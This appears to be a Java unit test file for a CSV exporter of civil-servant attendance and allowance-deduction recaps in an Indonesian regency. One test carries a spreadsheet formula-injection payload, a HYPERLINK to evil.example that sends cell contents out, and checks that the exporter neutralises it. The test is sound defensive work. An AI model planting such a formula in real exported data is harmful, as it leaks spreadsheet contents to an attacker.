package id.go.merangin.sapo.recap;

import static id.go.merangin.sapo.recap.NovemberRecap.ANDI_NIP;
import static id.go.merangin.sapo.recap.NovemberRecap.BUDI_NIP;
import static id.go.merangin.sapo.recap.NovemberRecap.SITI;
import static id.go.merangin.sapo.recap.NovemberRecap.SITI_NIP;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class TppCsvTest {

    @Test
    void startsWithTheFixedHeaderLine() throws IOException {
        assertThat(lines(written(NovemberRecap.everyOpd())).get(0))
                .isEqualTo("nip,nama,kode_opd,bulan,hari_kerja,"
                        + "hadir,tk,menit_terlambat,menit_pulang_cepat,potongan_persen,versi_aturan,terkunci");
    }

    @Test
    void writesOneLinePerAsnOfEveryOpd() throws IOException {
        List<String> lines = lines(written(NovemberRecap.everyOpd()));

        assertThat(lines).hasSize(1 + 4);
        assertThat(lines.get(2))
                .isEqualTo(BUDI_NIP + ",Budi Santoso,DISKOMINFO,2026-11,21,20,1,80,0,5.00,PERBUP-2026,false");
        assertThat(lines.get(4))
                .isEqualTo(ANDI_NIP + ",Andi Pratama,BKPSDMD,2026-11,21,4,17,0,0,50.00,PERBUP-2026,false");
    }

    @Test
    void quotesANameHoldingAComma() throws IOException {
        String csv = written(NovemberRecap.everyOpd());

        assertThat(lines(csv).get(1))
                .isEqualTo(SITI_NIP + ",\"Siti Aminah, S.Kom.\",DISKOMINFO,2026-11,21,21,0,92,35,"
                        + "3.00,PERBUP-2026,false");
        CSVRecord siti = records(csv).get(0);
        assertThat(siti.get("nip")).isEqualTo(SITI_NIP);
        assertThat(siti.get("nama")).isEqualTo(SITI);
        assertThat(siti.size()).isEqualTo(TppCsv.HEADER.size());
    }

    @Test
    void writesTheDeductionWithADecimalPointWhateverTheServersLanguage() throws IOException {
        Locale before = Locale.getDefault();
        try {
            Locale.setDefault(NovemberRecap.INDONESIAN);
            assertThat(records(written(NovemberRecap.everyOpd())))
                    .extracting(record -> record.get("potongan_persen"))
                    .containsExactly("3.00", "5.00", "0.00", "50.00");
        } finally {
            Locale.setDefault(before);
        }
    }

    @Test
    void saysWhetherTheMonthWasLocked() throws IOException {
        assertThat(records(written(NovemberRecap.diskominfoOnly())))
                .extracting(record -> record.get("terkunci"))
                .containsOnly("true");
    }

    @Test
    void writesUtf8WithoutAByteOrderMarkAndEndsLinesWithCrLf() throws IOException {
        RecapReport report = NovemberRecap.report(
                null,
                true,
                NovemberRecap.section(
                        "DISDUKCAPIL",
                        "Dinas Kependudukan dan Pencatatan Sipil",
                        null,
                        List.of(new RecapReport.Line(
                                1,
                                SITI_NIP,
                                "Nur’aini Ma’ruf",
                                null,
                                "DISDUKCAPIL",
                                NovemberRecap.diskominfo().lines().get(0).recap()))));
        byte[] bytes = bytes(report);

        assertThat(bytes[0]).isEqualTo((byte) 'n');
        String csv = new String(bytes, StandardCharsets.UTF_8);
        assertThat(records(csv).get(0).get("nama")).isEqualTo("Nur’aini Ma’ruf");
        assertThat(csv).endsWith("true\r\n").contains("terkunci\r\n");
    }

    @Test
    void neverHandsASpreadsheetAFormula() throws IOException {
        String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")";
        RecapReport report = NovemberRecap.report(
                null,
                true,
                NovemberRecap.section(
                        "DISDUKCAPIL",
                        "Dinas Kependudukan dan Pencatatan Sipil",
                        null,
                        List.of(new RecapReport.Line(
                                1,
                                SITI_NIP,
                                formula,
                                null,
                                "DISDUKCAPIL",
                                NovemberRecap.diskominfo().lines().get(0).recap()))));

        assertThat(records(written(report)).get(0).get("nama")).isEqualTo("'" + formula);
    }

    @Test
    void writesOnlyTheHeaderForAnOpdWithoutEmployees() throws IOException {
        assertThat(lines(written(NovemberRecap.opdWithoutEmployees()))).hasSize(1);
    }

    private static String written(RecapReport report) throws IOException {
        return new String(bytes(report), StandardCharsets.UTF_8);
    }

    private static byte[] bytes(RecapReport report) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new TppCsv().write(report, out);
        return out.toByteArray();
    }

    private static List<String> lines(String csv) {
        return csv.lines().toList();
    }

    private static List<CSVRecord> records(String csv) throws IOException {
        CSVFormat format = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get();
        return format.parse(new StringReader(csv)).getRecords();
    }
}
